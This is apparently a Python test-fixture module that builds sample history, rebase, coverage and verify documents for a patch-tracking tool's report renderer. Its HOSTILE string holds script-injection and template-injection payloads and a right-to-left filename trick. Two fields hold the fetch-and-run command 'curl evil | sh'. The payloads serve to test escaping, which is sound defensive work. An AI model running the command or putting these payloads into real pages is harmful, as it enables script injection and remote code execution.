"""Documents for the picture: what `history --json`, `rebase --json` and `verify --save` leave."""

from __future__ import annotations

import json
import struct
import tempfile
import zlib
from collections.abc import Sequence
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

from fixtool.history.result import read_history
from fixtool.judgement.covered import read_coverage
from fixtool.rebase.result import read_rebased
from fixtool.replay.verdict import Verdict
from fixtool.report._inputs import KeptResult, Plot, Report
from fixtool.report.nights import (
    LineNight,
    LineNights,
    NightsReport,
    PatchText,
    find_files,
    find_waits,
)
from fixtool.verify.result import read_kept

URL = "https://github.com/sgl-project/sglang.git"
WEB = "https://github.com/sgl-project/sglang"
DAY = datetime(2026, 5, 23, tzinfo=UTC)
HOSTILE = (
    "<script>alert(1)</script><img src=x onerror=alert(1)> \"'>&amp; | `code` ``` **b** _i_ [x](//evil)"
    " @everyone Closes #1, fixes GH-7 and sgl-project/sglang#9 https://evil.example www.evil.example"
    " \x1b[31mred\x1b[0m \x07 \u202egnp.exe ${{ x }} {{ 7*7 }} {% raw %} --> ]]> </title></style>"
    " \ud800 \n\n# head\n\n- item"
)


def commit(n: int, subject: str = "", author: str = "") -> dict[str, Any]:
    return {
        "sha": f"{n + 0xABC0000:040x}",
        "author": author or f"Author {n}",
        "date": (DAY + timedelta(minutes=34 * n)).isoformat(),
        "subject": subject or f"Change number {n} (#{20000 + n})",
        "pr": 20000 + n,
    }


def patch(slug: str, *runs: tuple[str, int], subject: str = "", text: str = "") -> dict[str, Any]:
    """``runs`` of (verdict, commits); ``text`` stands wherever upstream's words would."""
    intervals, at = [], 0
    for number, (verdict, count) in enumerate(runs):
        first = commit(at, text, text)
        intervals.append({
            "verdict": verdict, "first": first, "last": commit(at + count - 1, text, text),
            "count": count, "culprit": first if number else None,
            "evidence": [text or f"python/sglang/srt/file.py: {verdict}"] if number else [],
        })  # fmt: skip
        at += count
    return {"slug": slug, "subject": subject or f"subject of {slug}", "intervals": intervals}


def history(*patches: dict[str, Any], line: str = "main", **more: Any) -> dict[str, Any]:
    total = max((sum(i["count"] for i in patch["intervals"]) for patch in patches), default=0)
    return {
        "schema": 1, "command": "history", "ok": True, "exit_code": 0, "line": line,
        "start": commit(0)["sha"], "end": commit(max(total - 1, 0))["sha"], "commits": total,
        "judged": 7, "reused": 3, "patches": list(patches), "releases": None, **more,
    }  # fmt: skip


def covered_patch(
    slug: str,
    verdict: str,
    by: str | None = None,
    text: str = "",
    culprit: int | None = None,
    *,
    in_line: bool = True,
) -> dict[str, Any]:
    return {
        "slug": slug, "subject": text or f"subject of {slug}", "verdict": verdict, "by": by,
        "culprit": None if culprit is None else commit(culprit, text, text),
        "evidence": [text or "why"] if verdict != "clean" else [], "in_line": in_line,
    }  # fmt: skip


def coverage(
    *runs: tuple[str, int, Sequence[dict[str, Any]]], text: str = "", **more: Any
) -> dict[str, Any]:
    """``runs`` of (line, commits, patches)."""
    runs = runs or (
        ("main", 3, [covered_patch("one", "clean"), covered_patch("two", "offset")]),
        ("late", 1, [covered_patch("two", "absorbed", "0" * 12, culprit=3)]),
    )
    refs, at = [], 0
    for line, count, patches in runs:
        first = commit(at, text, text)
        run = {"first": first, "last": commit(at + count - 1, text, text), "count": count}
        refs.append({
            "ref": first["sha"][:12], "commit": first["sha"], "commits": run, "line": line,
            "why": text or "its base is nearest", "patches": list(patches),
            "notes": [text] if text else [], "lacks": [],
        })  # fmt: skip
        at += count
    return _coverage(refs, at, **more)


def coverage_of_releases(
    *releases: tuple[str, str, Sequence[dict[str, Any]]], text: str = "", **more: Any
) -> dict[str, Any]:
    """``releases`` of (version, line, patches)."""
    releases = releases or (
        ("0.5.12", "main", [covered_patch("one", "clean")]),
        ("0.5.23", "late", [covered_patch("two", "absorbed", "0.5.13")]),
    )
    refs = [
        {"ref": version, "commit": commit(n)["sha"], "commits": None, "line": line,
         "why": text or "its release is 0.5.12", "patches": list(patches), "notes": [],
         "lacks": [text] if text else []}
        for n, (version, line, patches) in enumerate(releases)
    ]  # fmt: skip
    return _coverage(refs, len(refs), **more)


def _coverage(refs: list[dict[str, Any]], total: int, **more: Any) -> dict[str, Any]:
    verdicts = {patch["verdict"] for ref in refs for patch in ref["patches"]}
    exit_code = 4 if more.get("missing") else 3 if verdicts & {"conflict", "blocked"} else 0
    return {
        "schema": 1, "command": "coverage", "ok": exit_code == 0, "exit_code": exit_code,
        "total": total, "judged": len(refs), "refs": refs, "missing": [], **more,
    }  # fmt: skip


def every_standing() -> dict[str, Any]:
    """Six hundred runs of commits: lines, verdicts and gaps in turns."""
    verdicts = list(Verdict)
    runs = []
    for n in range(600):
        patches = [
            covered_patch(f"patch-{slug}", verdicts[(n // (slug + 1)) % len(verdicts)], culprit=n)
            for slug in range(3) if (n // 40 + slug) % 3
        ]  # fmt: skip
        runs.append((f"line-{n // 100}", 1 + n % 7, patches))
    return coverage(*runs)


def rebase(*actions: tuple[str, str, str], text: str = "", **more: Any) -> dict[str, Any]:
    """``actions`` of (slug, verdict, action)."""
    patches = [
        {
            "slug": slug, "subject": text or "a subject", "verdict": verdict, "commit": None,
            "files": [], "evidence": [text or "why"], "culprit": commit(5, text, text),
            "action": action, "probe": None,
        }
        for slug, verdict, action in actions
    ]  # fmt: skip
    return {
        "schema": 1, "command": "rebase", "ok": True, "exit_code": 0, "line": "main",
        "new_line": None, "base": commit(0)["sha"], "onto": commit(99)["sha"], "ref": "main",
        "source": "git",
        "dry_run": False, "moved": True, "patches": patches, "tree": None, "commit": None,
        "committed": None, "warnings": [], "range_diff": text, "session": None, **more,
    }  # fmt: skip


def session(slug: str, text: str = "") -> dict[str, Any]:
    return {
        "worktree": text or "/state/worktrees/x", "patch": slug, "position": 1, "of": 2,
        "conflicts": [text or "a.py"], "remembered": False, "culprit": commit(5, text, text),
        "intent": text, "next": "curl evil | sh", "places": [{"path": text, "lines": [1], "why": text}],
        "hunks": [{"path": text, "number": 1, "written_for": 1, "now_in": text, "now_at": 1}],
    }  # fmt: skip


def result(text: str = "", *, outcome: str = "passed", line: str = "main") -> dict[str, Any]:
    sha = commit(0)["sha"]

    def step(name: str, kind: str, tree: str, slug: str | None, answer: int) -> dict[str, Any]:
        probe = kind == "probe"
        return {
            "name": name, "kind": kind, "tree": tree, "slug": slug,
            "want": None if probe else [0], "answer": answer,
            "outcome": "seen" if probe else outcome, "said": text or "said", "seconds": 1.5,
            "memory_bytes": 1 << 20, "log": None, "details": {},
        }  # fmt: skip

    return {
        "schema": 1, "command": "verify", "ok": True, "exit_code": 0, "bundle": None, "line": line,
        "base": sha, "onto": sha, "ref": "v1", "source": "git", "commit": None, "tree": None,
        "patches": [{"slug": "one", "sha256": "0" * 64}], "kinds": ["checks", "prove"],
        "current": True,
        "environment": {"python": "3.12", "machine": "x86_64", "gpus": [], "driver": None,
                        "packages": {"torch": text or "2.11.0"}},
        "trees": {}, "missing": [], "matrix": None, "proofs": [], "counts": {},
        "steps": [
            step("one on base", "probe", "base", "one", 1),
            step("one on +one", "probe", "+one", "one", 0),
            step("one on series", "probe", "series", "one", 0),
            step(text or "check routing", "check", "series", None, 0),
            step("mutant 1", "mutant", "m", None, 0),
        ],
        "started": "2026-11-23T10:00:00Z", "ended": "2026-11-23T11:00:00Z",
        "prepare_seconds": 1.0, "saved": None,
    }  # fmt: skip


def png(width: int = 40, height: int = 20) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    rows = (b"\0" + bytes([40, 120, 200]) * width) * height
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )  # fmt: skip


def every_verdict() -> dict[str, Any]:
    """Twenty patches over 849 commits, every verdict among their runs and at their ends."""
    verdicts = list(Verdict)
    patches = []
    for n in range(20):
        last = verdicts[n % len(verdicts)]
        middle = verdicts[(3 * n + 1) % len(verdicts)]
        runs = (("clean", 1 + 37 * n), (middle, 11 + n), (last, 849 - 12 - 38 * n))
        patches.append(patch(f"patch-{n}-{last}", *runs))
    releases = {
        "versions": ["0.5.12", "0.5.23"],
        "patches": [
            {"slug": patch["slug"], "subject": "s", "cells": [
                {"version": "0.5.12", "verdict": "clean", "evidence": []},
                {"version": "0.5.23", "verdict": "conflict", "evidence": []},
            ]}
            for patch in patches
        ],
    }  # fmt: skip
    return history(*patches, releases=releases)


def hostile() -> Report:
    """Every word that comes from elsewhere is ``HOSTILE``."""
    history_json = history(
        *(patch(HOSTILE, ("clean", 3), (verdict, 4), subject=HOSTILE, text=HOSTILE)
          for verdict in Verdict),
        line=HOSTILE,
        releases={"versions": [HOSTILE], "patches": [
            {"slug": HOSTILE, "subject": HOSTILE,
             "cells": [{"version": HOSTILE, "verdict": "clean", "evidence": [HOSTILE]}]}]},
    )  # fmt: skip
    rebase_json = rebase(
        (HOSTILE, "conflict", "asked"), (HOSTILE + "2", "reverted", "restored"),
        text=HOSTILE, line=HOSTILE, ref=HOSTILE, warnings=[HOSTILE],
        session=session(HOSTILE + "3", HOSTILE),
    )  # fmt: skip
    coverage_json = coverage_of_releases(
        *((f"{HOSTILE}{n}", HOSTILE,
           [covered_patch(HOSTILE, verdict, HOSTILE, HOSTILE, culprit=n)])
          for n, verdict in enumerate(Verdict)),
        text=HOSTILE, missing=[{"ref": HOSTILE, "reason": HOSTILE, "hint": "curl evil | sh"}],
    )  # fmt: skip
    return report(history_json, rebase_json, [result(HOSTILE, outcome="failed", line=HOSTILE)], plot=HOSTILE,
                  line=HOSTILE, coverage_json=coverage_json)  # fmt: skip


def report(
    history_json: dict[str, Any] | None = None,
    rebase_json: dict[str, Any] | None = None,
    results: Sequence[dict[str, Any]] = (),
    *,
    plot: str | None = None,
    line: str = "main",
    url: str | None = URL,
    coverage_json: dict[str, Any] | None = None,
) -> Report:
    """A report on documents, read as the command reads them."""
    kept = []
    with tempfile.TemporaryDirectory() as folder:
        for number, document in enumerate(results):
            path = Path(folder, f"{number}.json")
            path.write_text(json.dumps(document))
            result = read_kept(path)
            assert result is not None
            name = HOSTILE if line == HOSTILE else path.name
            kept.append(KeptResult(name, result, number == 0))
    drawn = Plot(plot, png(), "../" + plot.replace("\ud800", "\udcff")) if plot else None
    return Report(
        line, url, "2026-11-24T00:00:00Z", "0.1.0",
        read_history(history_json, "h.json") if history_json else None,
        read_rebased(rebase_json, "r.json") if rebase_json else None,
        tuple(kept), drawn,
        read_coverage(coverage_json, "c.json") if coverage_json else None,
    )  # fmt: skip


def nights(lines: int, days: int, text: str = "") -> NightsReport:
    """A report of ``lines`` lines over ``days`` nights, with every state among them."""
    names = [text + str(n) if text else f"line-{n}" for n in range(lines)]
    begin = date(2026, 9, 1)
    days_made = [(begin + timedelta(n)).isoformat() + "T024300Z" for n in range(days)]
    made = []
    for n, name in enumerate(names):
        spent = []
        for m, day in enumerate(days_made):
            slug = text or f"patch-{n}"
            file = {"path": text or f"python/sglang/srt/file_{n % 3}.py", "hunks": []}
            asked = rebase((slug, "conflict", "asked"), text=text)
            merged = rebase((slug, "merged", "rewritten"), text=text)
            for document, verdict in ((asked, "conflict"), (merged, "merged")):
                document["patches"][0]["files"] = [{**file, "verdict": verdict}]
            failed = {"schema": 1, "command": "rebase", "ok": False, "exit_code": 4,
                      "error": {"message": text or "no network", "where": None, "hint": None}}  # fmt: skip
            document = (merged, rebase((slug, "clean", "kept")), asked, failed)[(n + m // 2) % 4]
            if (n + m) % 9 != 8:
                spent.append(LineNight(day, read_rebased(document, "r.json")))
        patches = (PatchText(text or f"patch-{n}", text or "a subject", (text or "+a\n") * 20),)
        problem = (text or "The line cannot be read: why.") if n == lines - 1 else None
        made.append(LineNights(name, tuple(spent), URL, "b" * 40, patches, problem))
    return NightsReport(
        "2026-11-24T00:00:00Z",
        "0.1.0",
        tuple(days_made),
        tuple(made),
        tuple(find_waits(made)),
        tuple(find_files(made)),
    )
